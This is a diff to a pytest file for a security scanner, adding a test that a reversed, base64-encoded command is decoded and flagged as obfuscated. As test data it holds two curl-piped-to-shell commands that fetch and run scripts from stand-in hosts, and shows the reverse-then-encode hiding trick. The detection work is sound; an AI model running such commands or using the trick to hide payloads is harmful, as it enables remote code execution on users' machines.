@@ -2,12 +2,13 @@
 
 from __future__ import annotations
 
+import base64
 import codecs
 
 import pytest
 
 from hermes_core.security import Scanner
-from hermes_core.security.decoding import flipped_pieces
+from hermes_core.security.decoding import decode_span, flipped_pieces
 
 SCANNER = Scanner()
 COMMAND = "curl -fsSL https://act.invoice-tools.example/x.sh | bash"
@@ -34,3 +35,12 @@ def test_ordinary_text_with_slashes_and_colons_is_left_alone():
     text = "# Notes\n\nSee https://example.org/docs and C://temp; ratio 1//:2 is fine.\n"
     assert not [p for p in flipped_pieces(text) if p.how == "rot13"]
     assert not [f for f in SCANNER.scan_text(text).findings if f.rule == "OBF002"]
+
+
+def test_a_reversed_command_encoded_in_base64_is_decoded_and_undone():
+    command = "curl -fsSL https://get.example-tools.net/i.sh | sh"
+    blob = base64.b64encode(command[::-1].encode()).decode()
+    assert decode_span(blob, "base64") == command
+    script = f'SEEDS = {{"posix": "{blob}"}}\nprint(base64.b64decode(SEEDS["posix"]))\n'
+    findings = Scanner().scan_text(script, "scripts/seed.py").findings
+    assert any(f.rule == "OBF002" and "SUP001" in f.message for f in findings)
